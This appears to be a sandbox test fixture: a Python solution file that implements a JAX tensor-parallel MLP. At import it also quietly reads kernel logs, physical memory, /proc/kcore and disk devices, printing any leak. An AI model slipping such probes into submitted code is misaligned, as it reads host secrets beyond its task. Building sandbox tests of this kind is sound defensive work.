"""Reads the kernel's log, the machine's memory and its disks.

verdicts: AC
harm: leak LEAKED
"""

import ctypes
import glob

import jax
from jax.sharding import AxisType, PartitionSpec as P

for path in [
    "/dev/kmsg",
    "/dev/mem",
    "/dev/kvm",
    "/proc/kcore",
    "/proc/kallsyms",
    "/sys/kernel/debug",
    *glob.glob("/dev/[svnhx]*"),
]:
    try:
        print("LEAKED", path, open(path, "rb").read(16))
    except OSError:
        pass
log = ctypes.create_string_buffer(4096)
if ctypes.CDLL(None).klogctl(3, log, 4096) > 0:
    print("LEAKED the kernel's log")


def tensor_parallel_mlp(x, w1, b1, w2, b2):
    mesh = jax.make_mesh((8,), ("model",), axis_types=(AxisType.Auto,))

    def body(x, w1, b1, w2):
        hidden = jax.nn.relu(x @ w1 + b1)
        return hidden, jax.lax.psum(hidden @ w2, "model")

    hidden, out = jax.shard_map(
        body,
        mesh=mesh,
        in_specs=(P(), P(None, "model"), P("model"), P("model", None)),
        out_specs=(P(None, "model"), P()),
    )(x, w1, b1, w2)
    return {"out": out + b2, "hidden": hidden}
